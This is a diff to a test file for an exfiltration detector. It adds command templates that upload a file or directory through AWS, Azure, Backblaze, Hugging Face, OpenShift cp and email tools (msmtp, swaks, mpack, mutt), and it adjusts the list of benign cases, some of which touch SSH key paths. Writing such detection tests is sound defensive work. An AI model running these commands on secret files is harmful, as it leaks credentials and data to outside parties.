@@ -36,9 +36,12 @@ const UPLOADS = [
   "mutt -s hi -a notes.txt % -- a@b.example < /dev/null",
   "aws s3api put-object --bucket b --key k --body %",
   "aws s3api upload-part --bucket b --key k --part-number 1 --upload-id x --body=%",
+  "aws sns publish --topic-arn t --message file://%", "aws lambda invoke --function-name f --payload fileb://% out.json", "aws ssm put-parameter --name k --value=file://%",
+  "oc cp % pod-1:/tmp/x", "s4cmd put % s3://b/", "msmtp a@b.example < %", "swaks --to a@b.example --attach %", "mpack -s hi % a@b.example",
+  "mutt -i % a@b.example < /dev/null", "b2 upload-file bucket % k",
 ];
 /** Uploads that take a directory whole. */
-const TREE_UPLOADS = ["gcloud storage cp -r % gs://b/", "kubectl cp % pod-1:/tmp/x", "mc mirror % myminio/bucket", "croc send %", "wormhole send %"];
+const TREE_UPLOADS = ["gcloud storage cp -r % gs://b/", "kubectl cp % pod-1:/tmp/x", "mc mirror % myminio/bucket", "croc send %", "wormhole send %", "az storage blob upload-batch -d c -s %", "hf upload repo %"];
 
 describe("exfiltration: upload tools", () => {
   it.each(cases([
@@ -51,7 +54,7 @@ describe("exfiltration: upload tools", () => {
       "kubectl cp pod-1:/tmp/id_rsa ./id_rsa", "mc cp myminio/bucket/x ./x", "s3cmd get s3://b/x ./x", "gcloud storage cp gs://b/x .",
       "gcloud auth activate-service-account --key-file=$HOME/key.json", "kubectl create secret generic ssh --from-file=id_rsa=$HOME/.ssh/id_rsa",
       "aws s3api get-object --bucket b --key k ./out", "aws s3api put-object --bucket b --key k --body ./build.zip",
-      "mail -s \"$(hostname)\" a@b.example < report.txt", "mutt -a report.pdf -- a@b.example < /dev/null", "mc ~/.ssh", "croc 1234-code-word",
+      "mail -s \"$(hostname)\" a@b.example < report.txt", "aws cloudformation deploy --template-file file://template.yaml", "curl file:///etc/hostname", "msmtp a@b.example < mail.txt", "hf download repo", "mutt -a report.pdf -- a@b.example < /dev/null", "mc ~/.ssh", "croc 1234-code-word",
     ]),
   ]))("%s", (_title, row) => verify(row, EXFIL));
 });
